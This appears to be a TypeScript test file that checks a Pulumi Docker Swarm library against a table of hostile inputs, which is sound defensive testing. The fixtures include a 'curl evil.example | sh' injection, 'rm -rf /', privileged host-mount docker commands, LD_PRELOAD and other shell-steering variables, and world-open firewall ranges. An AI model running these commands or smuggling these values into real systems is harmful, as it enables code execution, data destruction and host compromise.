import * as crypto from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import * as pulumi from "@pulumi/pulumi";
import { isSecretInput, isSecretOutput, MockRun, settle, unwrapSecrets, valueOf } from "../helpers/mocks";
import { installCloudMocks } from "../helpers/cloudMocks";
import { divertUnhandledRejections } from "../helpers/unhandled";
import { Sandbox, sandbox } from "./cicd-helpers";
import type { SwarmHost } from "../../components/hosts/types";
import type { SwarmClusterLike } from "../../components/cluster/types";
import type { ResourceLike } from "../../components/hosts/firewallInvariant";

/*
 * The attack table of issue 12 ("Prove it"): hostile inputs per attack category, each with the
 * outcome it must have (refused with which message, rendered harmlessly, kept secret, opened
 * narrowly). Every row is asserted here; with PROOF_RESULTS_DIR set the counts and one message per
 * outcome go to attack-table.json, from which bench/securityTable.ts writes docs/security.md.
 */

// Components under mocks take seconds each on a loaded 2-core machine; SwarmCluster's first import
// compiles the cluster module.
jest.setTimeout(120_000);

type Outcome =
  | "refused"
  | "refused when the Output resolves"
  | "flagged by findFirewallViolations"
  | "rendered harmlessly"
  | "kept secret"
  | "opened narrowly";

interface Seen {
  outcome: Outcome | "accepted";
  /** The error text, or what shows the input was harmless. */
  evidence: string;
}

interface Trial {
  category: string;
  input: string;
  expected: Outcome;
  /** The error text must contain this (refusals). */
  message?: string;
  run: () => Promise<Seen>;
}

// Secrets are made at run time: no key- or password-shaped literal lives in the repository.
const PRIVATE_KEY = `key-${crypto.randomBytes(16).toString("hex")}`;
const HARBOR_SHA = "3f1c3d9a2b7e4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5";
const COMPOSE = "services:\n  web:\n    image: nginx:1.27\n";

let run: MockRun;
let lib: typeof import("../../index");
let docker: typeof import("@pulumi/docker");
let cluster: SwarmClusterLike;
const late: string[] = [];
let restore = () => {};

const host = (n: number, name = `node-${n}`): SwarmHost => ({
  name,
  connection: { host: `10.0.0.${n}`, user: "root", privateKey: pulumi.secret(PRIVATE_KEY) },
  advertiseAddr: `10.0.0.${n}`,
});

beforeAll(async () => {
  run = await installCloudMocks();
  docker = await import("@pulumi/docker");
  lib = await import("../../index");
  cluster = {
    provider: new docker.Provider("fixture-swarm", { host: "ssh://root@10.0.0.1:22" }),
    managerHost: host(1, "manager-1"),
    managerAddress: pulumi.output("10.0.0.1:2377"),
    spansNetworks: false,
  };
  // Rows whose input rejects make the runtime reject promises nobody awaits.
  restore = divertUnhandledRejections((reason) => late.push(String(reason)));
  await settle();
}, 120_000);

// The cluster's node resources serialize their dynamic provider's code asynchronously: give it time
// before the environment is torn down (as checked-inputs.test.ts does).
afterAll(async () => {
  await new Promise((r) => setTimeout(r, 4000));
  restore();
}, 30_000);

// ---------------------------------------------------------------------------------------------
// How a row is observed.

/** Builds now; a throw is a refusal. */
async function refusedNow(build: () => unknown): Promise<Seen> {
  const before = run.resources.length;
  try {
    build();
  } catch (err) {
    await settle();
    const registered = run.resources.length - before;
    if (registered !== 0)
      return { outcome: "accepted", evidence: `refused, but ${registered} resources exist` };
    return { outcome: "refused", evidence: (err as Error).message };
  }
  await settle();
  return { outcome: "accepted", evidence: "constructed without an error" };
}

/** The rejection of an Output (valueOf would wait for a value that never comes). */
async function refusedLate(output: () => pulumi.Input<unknown>): Promise<Seen> {
  try {
    await (pulumi.output(output()) as unknown as { promise(): Promise<unknown> }).promise();
  } catch (err) {
    return { outcome: "refused when the Output resolves", evidence: (err as Error).message };
  }
  return { outcome: "accepted", evidence: "the Output resolved" };
}

/**
 * Whether a string holds `needle`, as is or base64-encoded in a stdin line (a bundle's
 * `<file> <base64>` lines, or ComposeHost's bare base64 lines).
 */
function carries(text: string, needle: string): boolean {
  const decoded = text
    .split("\n")
    .map((line) => /^(?:[\w.-]+ )?([A-Za-z0-9+/=]+)$/.exec(line)?.[1])
    .filter((b64): b64 is string => b64 !== undefined)
    .map((b64) => Buffer.from(b64, "base64").toString("utf8"));
  return [text, ...decoded].some((t) => t.includes(needle));
}

/** Every plain (not secret-wrapped) string in a recorded input that contains `needle`. */
function plainOccurrences(value: unknown, needle: string, at = ""): string[] {
  if (isSecretInput(value)) return [];
  if (typeof value === "string") return carries(value, needle) ? [at || "(root)"] : [];
  if (Array.isArray(value)) return value.flatMap((v, i) => plainOccurrences(v, needle, `${at}[${i}]`));
  if (typeof value === "object" && value !== null) {
    return Object.entries(value).flatMap(([k, v]) => plainOccurrences(v, needle, at ? `${at}.${k}` : k));
  }
  return [];
}

/** Tools the recorded commands need beyond the cicd sandbox's own. */
function withTools(sb: Sandbox, tools: string[]): void {
  for (const tool of tools) {
    const target = path.join(sb.bin, tool);
    if (fs.existsSync(target)) continue;
    const found = ["/usr/bin", "/bin"].map((d) => path.join(d, tool)).find((p) => fs.existsSync(p));
    if (!found) throw new Error(`${tool} not found`);
    fs.symlinkSync(found, target);
  }
}

/** The recorded remote command of a component, with plain inputs. */
function commandOf(name: string): { create: string; stdin: string } {
  const inputs = unwrapSecrets(run.named(name).inputs) as { create: string; stdin: string };
  return { create: inputs.create, stdin: inputs.stdin };
}

// ---------------------------------------------------------------------------------------------
// (a) Compose environment variables that would redirect the deploy script.

/** Names that steer the shell, the loader or the Docker CLI: refused by name. */
const STEERING_NAMES = [
  "PATH",
  "IFS",
  "BASH_ENV",
  "ENV",
  "SHELLOPTS",
  "PS4",
  "HOME",
  "LD_PRELOAD",
  "LD_LIBRARY_PATH",
  "DOCKER_HOST",
  "DOCKER_CONFIG",
  "DOCKER_CONTEXT",
  "TMPDIR",
  "https_proxy",
  "BASH_FUNC_x%%",
];

/**
 * Deploys a ComposeStack or ComposeHost whose environment names one of its script's own
 * variables, then runs the exact recorded command (create + stdin) with bash in a sandbox whose
 * `docker` only logs. Harmless when docker ran once with the script's own arguments, the variable
 * reached docker's environment (for compose to interpolate) and nothing the value names happened.
 */
async function runsHarmlessly(kind: "stack" | "host", variable: string): Promise<Seen> {
  const sb = sandbox();
  try {
    withTools(sb, ["bash", "hostname", "timeout", "env", "printenv"]);
    const victim = sb.write("victim/keep", "still here\n");
    const marker = path.join(sb.dir, "pwned");
    // The value names the victim directory and tries a command substitution.
    const value = `${path.dirname(victim)} $(touch ${marker}) other-stack`;
    const log = path.join(sb.dir, "docker.log");
    sb.write(
      "bin/docker",
      [
        "#!/bin/bash",
        'if [ "$1" = info ]; then echo true; exit 0; fi',
        'if [ "$1" = compose ] && [ "$2" = version ]; then exit 0; fi',
        'if [ "$1 $2" = "stack deploy" ] && [ "$3" = --help ]; then echo "  -d, --detach"; exit 0; fi',
        `printf 'args %s\\n' "$*" >>${log}`,
        `printf 'var %s\\n' "$(printenv ${variable})" >>${log}`,
      ].join("\n"),
      0o755,
    );
    const id = `${kind}-${variable.toLowerCase().replace(/_/g, "-")}`;
    const name = `harmless-${id}`;
    let commandName: string;
    if (kind === "stack") {
      new lib.ComposeStack(name, {
        cluster,
        stackName: "app",
        composeContent: COMPOSE,
        prune: true,
        environment: { [variable]: value },
      });
      commandName = `${name}-stack`;
    } else {
      new lib.ComposeHost(name, {
        host: host(50, "ci-1"),
        projectName: "tools",
        directory: path.join(sb.dir, "project"),
        composeContent: COMPOSE,
        environment: { [variable]: value },
      });
      commandName = `${name}-compose`;
    }
    await settle();
    const { create, stdin } = commandOf(commandName);
    const result = sb.run(create, { input: stdin });
    const calls = sb.exists("docker.log") ? sb.read("docker.log").trim().split("\n") : [];
    const args = calls.filter((l) => l.startsWith("args ")).map((l) => l.slice(5));
    const expectedArgs =
      kind === "stack"
        ? /^stack deploy --compose-file \/tmp\/swarm-stack\.\w{8}\/docker-compose\.yml --detach=false --prune app$/
        : new RegExp(
            `^compose --project-name tools --project-directory ${sb.dir}/project --file ${sb.dir}/project/compose\\.yaml up -d --remove-orphans$`,
          );
    const problems = [
      ...(result.status === 0 ? [] : [`exit ${result.status}: ${result.stderr.trim()}`]),
      ...(args.length === 1 && expectedArgs.test(args[0])
        ? []
        : [`docker ran with: ${JSON.stringify(args)}`]),
      ...(calls.includes(`var ${value}`)
        ? []
        : [`docker did not see ${variable} (${JSON.stringify(calls)})`]),
      ...(sb.exists("victim/keep") ? [] : ["the directory the value names was removed"]),
      ...(fs.existsSync(marker) ? ["the command substitution in the value ran"] : []),
    ];
    if (problems.length > 0) return { outcome: "accepted", evidence: problems.join("; ") };
    return {
      outcome: "rendered harmlessly",
      evidence: `docker ${args[0]
        .replace(/\/tmp\/swarm-stack\.\w{8}/, "$workdir")
        .replace(sb.dir, "<dir>")
        .replace(sb.dir, "<dir>")
        .replace(
          sb.dir,
          "<dir>",
        )}; ${variable} reached docker's environment only; the directory it names is intact; $(...) in the value did not run`,
    };
  } finally {
    sb.cleanup();
  }
}

const trials: Trial[] = [];
/** Unique component names across rows. */
let seq = 0;
const add = (
  category: string,
  input: string,
  expected: Outcome,
  runIt: () => Promise<Seen>,
  message?: string,
) => trials.push({ category, input, expected, run: runIt, ...(message !== undefined ? { message } : {}) });

const A = "(a) compose environment redirecting the deploy script";
for (const name of STEERING_NAMES) {
  const fix = name.includes("%")
    ? "Use variable names of letters, digits and '_', not starting with a digit."
    : "This name steers the shell, the loader or the Docker CLI that deploys the stack";
  add(
    A,
    `ComposeStack environment.${name}`,
    "refused",
    () =>
      refusedNow(
        () => new lib.ComposeStack("env", { cluster, composeContent: COMPOSE, environment: { [name]: "x" } }),
      ),
    `environment.${name}: received ${JSON.stringify(name)}. ${fix}`,
  );
  add(
    A,
    `ComposeHost environment.${name}`,
    "refused",
    () =>
      refusedNow(
        () =>
          new lib.ComposeHost("env", {
            host: host(50, "ci-1"),
            composeContent: COMPOSE,
            environment: { [name]: "x" },
          }),
      ),
    `environment.${name}: received ${JSON.stringify(name)}. ${fix}`,
  );
}
// The scripts' own variable names (and the prelude's): reach docker only.
for (const name of ["stack", "workdir", "status", "SUDO", "host_name", "script_task", "received"]) {
  add(
    A,
    `ComposeStack environment.${name} = "<victim dir> $(touch ...) other-stack"`,
    "rendered harmlessly",
    () => runsHarmlessly("stack", name),
  );
}
for (const name of ["dir", "project", "env_b64", "compose_b64", "file"]) {
  add(
    A,
    `ComposeHost environment.${name} = "<victim dir> $(touch ...) other-stack"`,
    "rendered harmlessly",
    () => runsHarmlessly("host", name),
  );
}

// ---------------------------------------------------------------------------------------------
// (b) Values given as Outputs that would skip validation.

const B = "(b) Output-valued arguments skipping validation";
for (const addr of ["10.0.0.1; reboot", "$(curl -s evil.example | sh)", "`id`", "10.0.0.1\nreboot"]) {
  add(
    B,
    `SwarmCluster nodes[0].host.advertiseAddr = Output(${JSON.stringify(addr)})`,
    "refused when the Output resolves",
    async () => {
      const c = new lib.SwarmCluster(`late${++seq}`, {
        nodes: [{ host: { ...host(1), advertiseAddr: pulumi.output(addr) }, role: "manager" }],
      });
      return refusedLate(() => c.managerAddress);
    },
    `swarm:cluster:SwarmCluster "late`,
  );
  add(
    B,
    `existingHosts servers[0].advertiseAddr = Output(${JSON.stringify(addr)})`,
    "refused when the Output resolves",
    () => {
      const [h] = lib.existingHosts([
        {
          name: "tencent-1",
          host: "203.0.113.7",
          privateKey: pulumi.secret(PRIVATE_KEY),
          advertiseAddr: pulumi.output(addr),
        },
      ]);
      return refusedLate(() => h.advertiseAddr);
    },
    `servers[0].advertiseAddr: received ${JSON.stringify(addr)}. Use the IPv4 address the other swarm nodes reach this server on.`,
  );
}
for (const cidr of ["0.0.0.0/0", "::/0", "0.0.0.0/1"]) {
  add(
    B,
    `AwsHosts peerCidrs[0] = Output(${JSON.stringify(cidr)})`,
    "refused when the Output resolves",
    async () => {
      const hosts = new lib.AwsHosts(`awspeer${++seq}`, {
        count: 1,
        adminCidrs: ["203.0.113.7/32"],
        region: "eu-central-1",
        peerCidrs: [pulumi.output(cidr)],
      });
      const source = hosts.firewallRules[0].sources.find((s) => s.kind === "cidr") as {
        cidr: pulumi.Input<string>;
      };
      return refusedLate(() => source.cidr);
    },
    `swarm:hosts:AwsHosts "awspeer`,
  );
  add(
    B,
    `AlicloudHosts peerCidrs[0] = Output(${JSON.stringify(cidr)})`,
    "refused when the Output resolves",
    async () => {
      const hosts = new lib.AlicloudHosts(`alipeer${++seq}`, {
        count: 1,
        adminCidrs: ["203.0.113.7/32"],
        region: "cn-hangzhou",
        peerCidrs: [pulumi.output(cidr)],
      });
      const source = hosts.firewallRules[0].sources.find((s) => s.kind === "cidr") as {
        cidr: pulumi.Input<string>;
      };
      return refusedLate(() => source.cidr);
    },
    `swarm:hosts:AlicloudHosts "alipeer`,
  );
}
for (const cidr of ["0.0.0.0/0", "::/0"]) {
  add(
    B,
    `swarmFirewallRules adminCidrs[0] = Output(${JSON.stringify(cidr)})`,
    "refused when the Output resolves",
    async () => {
      const rules = lib.swarmFirewallRules(
        { adminCidrs: [pulumi.output(cidr)], advertise: "public", encryptedOverlays: true },
        { type: "swarm:hosts:AwsHosts", name: "x" },
      );
      const ssh = rules.flatMap((r) => r.sources).find((s) => s.kind === "cidr") as {
        cidr: pulumi.Input<string>;
      };
      return refusedLate(() => ssh.cidr);
    },
    `swarm:hosts:AwsHosts "x": adminCidrs[0]: received ${JSON.stringify(cidr)}.`,
  );
}

// ---------------------------------------------------------------------------------------------
// (c) CIDR sets that together cover the world.

const C = "(c) CIDR sets that together cover the world";
/** Sets with one world-sized block (refused block by block) and sets where only the union is. */
const WORLD_SETS: [string[], string][] = [
  [["0.0.0.0/1", "128.0.0.0/1"], '[0]: received "0.0.0.0/1".'],
  [["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2"], "Together these blocks cover half or more of the internet"],
  [
    ["0.0.0.0/3", "32.0.0.0/3", "64.0.0.0/3", "96.0.0.0/3"],
    "Together these blocks cover half or more of the internet",
  ],
  [
    ["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2"],
    "Together these blocks cover half or more of the internet",
  ],
];
for (const [set, message] of WORLD_SETS) {
  add(
    C,
    `AwsHosts peerCidrs = ${JSON.stringify(set)}`,
    "refused",
    () =>
      refusedNow(
        () =>
          new lib.AwsHosts("worldpeer", {
            count: 1,
            adminCidrs: ["203.0.113.7/32"],
            region: "eu-central-1",
            peerCidrs: set,
          }),
      ),
    `peerCidrs${message}`.replace(
      "peerCidrsTogether",
      `peerCidrs: received ${JSON.stringify(set)}. Together`,
    ),
  );
  add(
    C,
    `AwsHosts adminCidrs = ${JSON.stringify(set)}`,
    "refused",
    () =>
      refusedNow(() => new lib.AwsHosts("worldadmin", { count: 1, adminCidrs: set, region: "eu-central-1" })),
    message.startsWith("[") ? `adminCidrs${message}` : `adminCidrs: received ${JSON.stringify(set)}.`,
  );
  add(
    C,
    `AlicloudHosts adminCidrs = ${JSON.stringify(set)}`,
    "refused",
    () =>
      refusedNow(
        () => new lib.AlicloudHosts("worldali", { count: 1, adminCidrs: set, region: "cn-hangzhou" }),
      ),
    message.startsWith("[") ? `adminCidrs${message}` : `adminCidrs: received ${JSON.stringify(set)}.`,
  );
}
// IPv6 halves: the host components take IPv4 blocks only; the invariant below judges IPv6 by set.
add(
  C,
  'AwsHosts peerCidrs = ["::/1","8000::/1"]',
  "refused",
  () =>
    refusedNow(
      () =>
        new lib.AwsHosts("worldpeer6", {
          count: 1,
          adminCidrs: ["203.0.113.7/32"],
          region: "eu-central-1",
          peerCidrs: ["::/1", "8000::/1"],
        }),
    ),
  'peerCidrs[0]: received "::/1". Use an IPv4 CIDR block',
);
// The same sets, written straight as cloud rules (as a hand-written rule or another program would):
// the whole-stack invariant computes the union too.
const AWS_RULE = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule";
for (const [port, protocol] of [
  [22, "tcp"],
  [2377, "tcp"],
  [4789, "udp"],
] as const) {
  for (const set of [
    ["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2"],
    ["::/1", "8000::/1"],
    ["::/2", "4000::/2", "8000::/2"],
  ]) {
    add(
      C,
      `findFirewallViolations: ${port}/${protocol} rules from ${JSON.stringify(set)}`,
      "flagged by findFirewallViolations",
      async () => {
        const resources: ResourceLike[] = set.map((cidr, i) => ({
          type: AWS_RULE,
          name: `r${i}`,
          inputs: {
            ipProtocol: protocol,
            fromPort: port,
            toPort: port,
            ...(cidr.includes(":") ? { cidrIpv6: cidr } : { cidrIpv4: cidr }),
          },
        }));
        const found = lib.findFirewallViolations(resources);
        return found.length === set.length
          ? {
              outcome: "flagged by findFirewallViolations",
              evidence: found.map((v) => `${v.resource}: ${v.reason}`).join("; "),
            }
          : { outcome: "accepted", evidence: JSON.stringify(found) };
      },
      `r0: opens ${port === 22 ? "SSH" : "swarm"}`,
    );
  }
}

// ---------------------------------------------------------------------------------------------
// (d) Alibaba Cloud ESP: ECS cannot name ESP, so the fallback is "all", narrowed by drops.

const D = "(d) Alibaba Cloud ESP rule shape";
const ALI_RULE = "alicloud:ecs/securityGroupRule:SecurityGroupRule";
for (const peers of [["203.0.113.50/32"], ["203.0.113.50/32", "198.51.100.0/28"]]) {
  add(
    D,
    `AlicloudHosts peerCidrs = ${JSON.stringify(peers)} (ESP to members and peers)`,
    "opened narrowly",
    async () => {
      const name = `esp${++seq}`;
      const hosts = new lib.AlicloudHosts(name, {
        count: 2,
        adminCidrs: ["203.0.113.7/32"],
        region: "cn-hangzhou",
        peerCidrs: peers,
      });
      await valueOf(hosts.publicIps);
      await settle();
      const rules = run
        .ofType(ALI_RULE)
        .filter((r) => r.name.startsWith(`${name}-`))
        .map((r) => ({ name: r.name, i: unwrapSecrets(r.inputs) as Record<string, unknown> }));
      const source = (i: Record<string, unknown>) => String(i.cidrIp ?? "group");
      const fallbacks = rules.filter((r) => r.i.ipProtocol === "all" && r.i.policy === "accept");
      const problems: string[] = [];
      // One fallback per member public IP and per peer.
      if (fallbacks.length !== 2 + peers.length) problems.push(`${fallbacks.length} "all" accepts`);
      for (const f of fallbacks) {
        const drops = rules.filter(
          (r) =>
            r.i.policy === "drop" &&
            source(r.i) === source(f.i) &&
            Number(r.i.priority) < Number(f.i.priority),
        );
        for (const [protocol, range] of [
          ["tcp", "1/65535"],
          ["udp", "1/65535"],
          ["icmp", "-1/-1"],
          ["gre", "-1/-1"],
          ["tcp", "2375/2376"],
        ]) {
          if (!drops.some((d) => d.i.ipProtocol === protocol && d.i.portRange === range)) {
            problems.push(`${f.name}: no ${protocol} ${range} drop before it`);
          }
        }
        if (!/^(\d+\.){3}\d+\/32$|^198\.51\.100\.0\/28$/.test(source(f.i)))
          problems.push(`${f.name} from ${source(f.i)}`);
      }
      const violations = lib.findFirewallViolations(
        run.resources.filter((r) => r.name.startsWith(`${name}-`)),
      );
      if (violations.length > 0) problems.push(JSON.stringify(violations));
      return problems.length > 0
        ? { outcome: "accepted", evidence: problems.join("; ") }
        : {
            outcome: "opened narrowly",
            evidence: `${fallbacks.length} "all" accepts (priority 100), each from one member /32 or peer, each under drops of tcp, udp, icmp, gre and 2375-2376/tcp from the same source (priority 50): only ESP and the protocols ECS cannot name pass; findFirewallViolations finds nothing`,
          };
    },
  );
}
for (const cidr of ["0.0.0.0/0", "0.0.0.0/1+128.0.0.0/1"]) {
  add(
    D,
    `a hand-written "all" accept on Alibaba Cloud from ${cidr}`,
    "flagged by findFirewallViolations",
    async () => {
      const resources: ResourceLike[] = cidr.split("+").map((c, i) => ({
        type: ALI_RULE,
        name: `all${i}`,
        inputs: {
          type: "ingress",
          ipProtocol: "all",
          portRange: "-1/-1",
          cidrIp: c,
          policy: "accept",
          priority: 100,
          securityGroupId: "sg",
        },
      }));
      const found = lib.findFirewallViolations(resources);
      const esp = found.filter((v) => v.reason.includes("ESP"));
      return esp.length > 0
        ? {
            outcome: "flagged by findFirewallViolations",
            evidence: esp.map((v) => `${v.resource}: ${v.reason}`).join("; "),
          }
        : { outcome: "accepted", evidence: JSON.stringify(found) };
    },
    "ESP (IP protocol 50)",
  );
}

// ---------------------------------------------------------------------------------------------
// (e) insecureRegistries that would switch TLS off for public registries.

const E = "(e) insecureRegistries switching TLS off for public registries";
for (const registry of [
  "0.0.0.0/0",
  "0.0.0.0/1",
  "128.0.0.0/1",
  "10.0.0.0/7",
  "::/0",
  "2000::/3",
  "docker.io",
  "registry-1.docker.io:443",
  "index.docker.io",
  "ghcr.io",
  "quay.io",
  "gcr.io",
  "public.ecr.aws",
  "123456789012.dkr.ecr.eu-central-1.amazonaws.com",
]) {
  add(
    E,
    `SwarmCluster insecureRegistries[0] = ${JSON.stringify(registry)}`,
    "refused",
    () =>
      refusedNow(
        () =>
          new lib.SwarmCluster("insecure", {
            nodes: [{ host: host(1), role: "manager" }],
            insecureRegistries: [registry],
          }),
      ),
    `insecureRegistries[0]: received ${JSON.stringify(registry)}.`,
  );
}

// ---------------------------------------------------------------------------------------------
// (f) Secrets set by config path into a service environment.

const F = "(f) secrets by config path into a service environment";
/** The recorded resources a component registered contain `secret` only inside secret wrappers. */
async function keptSecret(prefix: string, secret: string, outputs: pulumi.Output<unknown>[]): Promise<Seen> {
  await settle();
  const mine = run.resources.filter((r) => r.name.startsWith(prefix));
  const withSecret = mine.filter(
    (r) =>
      Object.values(unwrapSecrets(r.inputs) as Record<string, unknown>).some(
        (v) => typeof v === "string" && carries(v, secret),
      ) || JSON.stringify(unwrapSecrets(r.inputs)).includes(secret),
  );
  const leaks = mine.flatMap((r) => plainOccurrences(r.inputs, secret).map((at) => `${r.name}.${at}`));
  const plainOutputs = (await Promise.all(outputs.map(isSecretOutput))).filter((s) => !s).length;
  if (withSecret.length === 0)
    return { outcome: "accepted", evidence: "the secret reached no resource at all" };
  if (leaks.length > 0 || plainOutputs > 0) {
    return { outcome: "accepted", evidence: `plain in ${leaks.join(", ")}; ${plainOutputs} plain outputs` };
  }
  return {
    outcome: "kept secret",
    evidence: `reaches ${withSecret.map((r) => r.name).join(", ")} only inside secret values; the outputs that carry it are secret`,
  };
}
// `pulumi config set --secret --path 'pulumi-swarm:composeSecrets.NAME'` arrives in the program as
// a secret Output per name (stacks/index.ts secretConfig), which stacks/workloads.ts passes on as
// pulumi.secret(...) into the stack's environment: the same input here.
for (const variable of ["DB_PASSWORD", "API_TOKEN"]) {
  add(
    F,
    `ComposeStack environment.${variable} = secret (composeSecrets by --path)`,
    "kept secret",
    async () => {
      const secret = `s3-${crypto.randomBytes(8).toString("hex")}`;
      const name = `sec-stack-${variable.toLowerCase().replace("_", "-")}`;
      const s = new lib.ComposeStack(name, {
        cluster,
        composeContent: COMPOSE,
        environment: { [variable]: pulumi.secret(secret), PLAIN: "x" },
      });
      return keptSecret(`${name}-`, secret, [s.deployOutput]);
    },
  );
  add(F, `ComposeHost environment.${variable} = secret`, "kept secret", async () => {
    const secret = `s3-${crypto.randomBytes(8).toString("hex")}`;
    const name = `sec-host-${variable.toLowerCase().replace("_", "-")}`;
    const h = new lib.ComposeHost(name, {
      host: host(50, "ci-1"),
      composeContent: COMPOSE,
      environment: { [variable]: pulumi.secret(secret) },
    });
    return keptSecret(`${name}-`, secret, [h.deployOutput]);
  });
}
add(F, "SwarmService env.DB_PASSWORD = secret", "kept secret", async () => {
  const secret = `s3-${crypto.randomBytes(8).toString("hex")}`;
  new lib.SwarmService("sec-svc", {
    cluster,
    image: "nginx:1.27",
    env: { DB_PASSWORD: pulumi.secret(secret), PLAIN: "x" },
  });
  return keptSecret("sec-svc", secret, []);
});
// A secret leaf set by --path under a plain key (e.g. a service's env in pulumi-swarm:workloads)
// would be decrypted into plain config: the stack file is refused instead.
for (const leaf of ["services[0].env.DB_PASSWORD", "stacks[0].environment.API_TOKEN"]) {
  add(
    F,
    `Pulumi.<stack>.yaml: pulumi config set --secret --path 'pulumi-swarm:workloads.${leaf}'`,
    "refused",
    async () => {
      const { loadStackFile } = await import("../../stacks/program");
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), "attack-"));
      const file = path.join(dir, "Pulumi.attack.yaml");
      const [list, , field, key] = leaf.split(/[[\].]+/);
      const entry =
        list === "services"
          ? {
              name: "web",
              image: "nginx:1.27",
              [field]: { [key]: { secure: "v1:AAAAbm90IGEgcmVhbCBvbmU=" } },
            }
          : { name: "app", compose: COMPOSE, [field]: { [key]: { secure: "v1:AAAAbm90IGEgcmVhbCBvbmU=" } } };
      fs.writeFileSync(file, JSON.stringify({ config: { "pulumi-swarm:workloads": { [list]: [entry] } } }));
      try {
        return await refusedNow(() => loadStackFile(file));
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    },
    "pulumi-swarm:workloads: received an encrypted value. This key is plain config (no secrets in it)",
  );
}

// ---------------------------------------------------------------------------------------------
// (g) Published ports that would open the host's own services on every node.

const G = "(g) published ports 22, 2375-2377, 7946, data path";
let services = 0;
for (const [published, dataPathPort] of [
  [22, undefined],
  [2375, undefined],
  [2376, undefined],
  [2377, undefined],
  [7946, undefined],
  [4789, undefined],
  [4800, 4800],
] as [number, number | undefined][]) {
  for (const mode of ["ingress", "host"] as const) {
    add(
      G,
      `SwarmService ports[0].published = ${published} (${mode}${dataPathPort ? `, cluster dataPathPort ${dataPathPort}` : ""})`,
      "refused",
      () =>
        refusedNow(
          () =>
            new lib.SwarmService(`port${++services}`, {
              cluster: dataPathPort ? { ...cluster, dataPathPort } : cluster,
              image: "nginx:1.27",
              ports: [{ target: 80, published, mode }],
            }),
        ),
      `ports[0].published: received ${published}. Port ${published} is`,
    );
  }
}

// The same rule for the published ports inside a ComposeStack's compose file (short and long
// syntax, ranges, interpolated ports), with the same message.
const composeWithPorts = (ports: string) => `services:\n  web:\n    image: nginx:1.27\n    ports:\n${ports}`;
let stacks = 0;
for (const [ports, port, extra] of [
  ['      - "22:22"\n', 22, {}],
  ['      - "2375:2375"\n', 2375, {}],
  ['      - "0.0.0.0:2376:80"\n', 2376, {}],
  ['      - "8080:80"\n      - "2370-2380:8070-8080"\n', 2375, {}],
  ['      - "7946:7946/udp"\n', 7946, {}],
  ['      - "[::]:4789:4789/udp"\n', 4789, {}],
  ["      - target: 80\n        published: 2377\n", 2377, {}],
  ['      - target: 80\n        published: "2377"\n        mode: host\n', 2377, {}],
  ['      - "4800:4800/udp"\n', 4800, { dataPathPort: 4800 }],
  ['      - "${SSH_PORT}:22"\n', 22, { environment: { SSH_PORT: "22" } }],
  ['      - "${API_PORT:-2375}:2375"\n', 2375, {}],
] as [string, number, { dataPathPort?: number; environment?: Record<string, string> }][]) {
  const entry = ports.trim().split("\n").pop()!.trim();
  add(
    G,
    `ComposeStack ports ${entry}${extra.environment ? ` with environment ${JSON.stringify(extra.environment)}` : ""}${extra.dataPathPort ? ` (cluster dataPathPort ${extra.dataPathPort})` : ""}`,
    "refused",
    () =>
      refusedNow(
        () =>
          new lib.ComposeStack(`ports${++stacks}`, {
            cluster: extra.dataPathPort ? { ...cluster, dataPathPort: extra.dataPathPort } : cluster,
            composeContent: composeWithPorts(ports),
            ...(extra.environment ? { environment: extra.environment } : {}),
          }),
      ),
    `.published: received ${port}. Port ${port} is`,
  );
}
for (const [ports, port, environment] of [
  ['      - "${SSH_PORT}:22"\n', 22, { SSH_PORT: pulumi.secret("22") }],
  ["      - target: 80\n        published: ${MGMT}\n", 2377, { MGMT: pulumi.output("2377") }],
] as [string, number, Record<string, pulumi.Input<string>>][]) {
  add(
    G,
    `ComposeStack ports ${ports.trim().split("\n").pop()!.trim()} with the environment as an Output`,
    "refused when the Output resolves",
    () =>
      refusedLate(
        () =>
          new lib.ComposeStack(`ports${++stacks}`, {
            cluster,
            composeContent: composeWithPorts(ports),
            environment,
          }).publishedPorts,
      ),
    `.published: received ${port}. Port ${port} is`,
  );
}

// ---------------------------------------------------------------------------------------------
// (h) The Jenkins deploy key: the gate on the manager runs only `docker service update --image`.

const H = "(h) deploy key commands the gate refuses";
const TARGETS = [{ service: "web", repository: "10.0.1.5:5000/team/web" }];
for (const request of [
  "",
  "bash",
  "sh -c id",
  "docker run --privileged -v /:/h busybox",
  "docker exec -it web sh",
  "docker service create --name x busybox",
  "docker service rm web",
  "docker service update web",
  "docker service update --image 10.0.1.5:5000/team/web:1 db",
  "docker service update --image evil.example/web:1 web",
  "docker service update --image 10.0.1.5:5000/team/web-evil:1 web",
  "docker service update --image 10.0.1.5:5000/team/web:1 web; rm -rf /",
  "docker service update --image 10.0.1.5:5000/team/web:$(id) web",
  "docker service update --image 10.0.1.5:5000/team/web:1 --mount-add type=bind,src=/,dst=/h web",
  "docker service update --entrypoint sh --image 10.0.1.5:5000/team/web:1 web",
  "docker service update --env-add LD_PRELOAD=/x.so --image 10.0.1.5:5000/team/web:1 web",
  "docker service update --publish-add 2375:2375 --image 10.0.1.5:5000/team/web:1 web",
  "docker service update --cap-add ALL --image 10.0.1.5:5000/team/web:1 web",
  "docker service update --secret-add src=db,target=/x --image 10.0.1.5:5000/team/web:1 web",
  "docker service update --image 10.0.1.5:5000/team/web:1 web\nbash",
]) {
  add(
    H,
    `SSH_ORIGINAL_COMMAND=${JSON.stringify(request)}`,
    "refused",
    async () => {
      const { renderDeployGate } = await import("../../components/cicd/scripts/deployGate");
      const log = "docker.log";
      const sb = sandbox();
      try {
        sb.write("bin/docker", `#!/bin/bash\nprintf '%s\\n' "$*" >>${path.join(sb.dir, log)}\n`, 0o755);
        sb.write("gate", renderDeployGate("pulumi-swarm-deploy-ci", TARGETS), 0o755);
        const result = sb.run(`${sb.dir}/gate`, {
          env: request === "" ? {} : { SSH_ORIGINAL_COMMAND: request },
        });
        if (sb.exists(log)) return { outcome: "accepted", evidence: `docker ran: ${sb.read(log)}` };
        if (result.status === 0) return { outcome: "accepted", evidence: "the gate exited 0" };
        return { outcome: "refused", evidence: result.stderr.split("\n")[0] };
      } finally {
        sb.cleanup();
      }
    },
    "pulumi-swarm deploy gate: refused: ",
  );
}

// ---------------------------------------------------------------------------------------------
